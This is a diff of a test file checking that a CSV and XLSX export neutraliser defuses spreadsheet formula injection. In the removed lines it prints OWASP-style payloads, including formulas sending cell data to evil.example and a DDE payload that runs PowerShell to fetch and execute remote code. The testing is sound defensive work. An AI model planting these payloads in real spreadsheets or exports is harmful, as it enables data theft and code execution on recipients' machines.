@@ -6,32 +6,16 @@ import Papa from 'papaparse';
 import { afterAll, describe, expect, it } from 'vitest';
 import { csvField, maxXlsxCellLength, neutraliseCell, startsLikeFormula } from '../../src/main/services/export/neutralise-formula';
 import { tempDir } from '../helpers/temp-store';
-import { trustRecorder } from './recorder';
+import { formulaInjectionStrings } from './attack-strings';
 
-const trust = trustRecorder(__filename);
 const { dir, cleanup } = tempDir();
 afterAll(cleanup);
 
-/** Formula-injection payloads from OWASP's CSV-injection page and public reports. */
-export const formulaInjectionStrings = [
-  '=HYPERLINK("https://evil.example/?leak="&A1,"Klik her")',
-  '=1+1',
-  '+cmd|\' /C calc\'!A0',
-  '-1+1',
-  '-2+3+cmd|\' /C calc\'!A0',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
-  '=cmd|\' /C powershell IEX(wget evil.example/x)\'!A0',
-  '\t=1+1',
-  '\r=1+1',
-  '  =1+1',
-  '＝1+1',
-  '=WEBSERVICE("https://evil.example/"&A1)',
-  '=IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")',
-];
 
 describe('formula injection in exports', () => {
-  it.each(formulaInjectionStrings)('CSV: %j is written so it starts with a quote and reads back as the same text', (attack) =>
-    trust.check('injection', `CSV: ${JSON.stringify(attack)}`, () => {
+  // Unit checks of the neutraliser itself; the counted items drive the real export handlers (export-injection.test.ts).
+  it.each(formulaInjectionStrings)('CSV: %j is written so it starts with a quote and reads back as the same text', (attack) => {
+    {
       const safe = neutraliseCell(attack, 'csv');
       expect(safe).toBe(`'${attack}`);
       const line = ['Kommune', attack, 42].map((value) => csvField(value)).join(';');
@@ -39,8 +23,8 @@ describe('formula injection in exports', () => {
       expect(parsed.errors).toEqual([]);
       expect(parsed.data[0]).toEqual(['Kommune', `'${attack}`, '42']);
       expect(startsLikeFormula(parsed.data[0][1])).toBe(false);
-    }),
-  );
+    }
+  });
 
   it('CSV: ordinary text, numbers and negative numbers pass unchanged; quotes, separators and line breaks are quoted', () => {
     expect(neutraliseCell('København', 'csv')).toBe('København');
@@ -89,13 +73,11 @@ describe('formula injection in exports', () => {
     const control = rows.getRow(formulaInjectionStrings.length + 6).getCell(2);
     expect(control.type).toBe(ExcelJS.ValueType.Formula);
     for (const [index, attack] of formulaInjectionStrings.entries()) {
-      await trust.check('injection', `XLSX: ${JSON.stringify(attack)}`, () => {
-        const cell = rows.getRow(index + 2).getCell(2);
-        expect(cell.type).toBe(ExcelJS.ValueType.String);
-        expect(cell.formula).toBeFalsy();
-        // Line breaks inside a cell are stored as \n, the form Excel uses.
-        expect(cell.value).toBe(attack.replace(/\r\n?/g, '\n'));
-      });
+      const cell = rows.getRow(index + 2).getCell(2);
+      expect(cell.type, attack).toBe(ExcelJS.ValueType.String);
+      expect(cell.formula).toBeFalsy();
+      // Line breaks inside a cell are stored as \n, the form Excel uses.
+      expect(cell.value).toBe(attack.replace(/\r\n?/g, '\n'));
     }
     const after = formulaInjectionStrings.length + 2;
     expect(rows.getRow(after).getCell(2).value).toBe('=HYPERLINK("https://evil.example")');
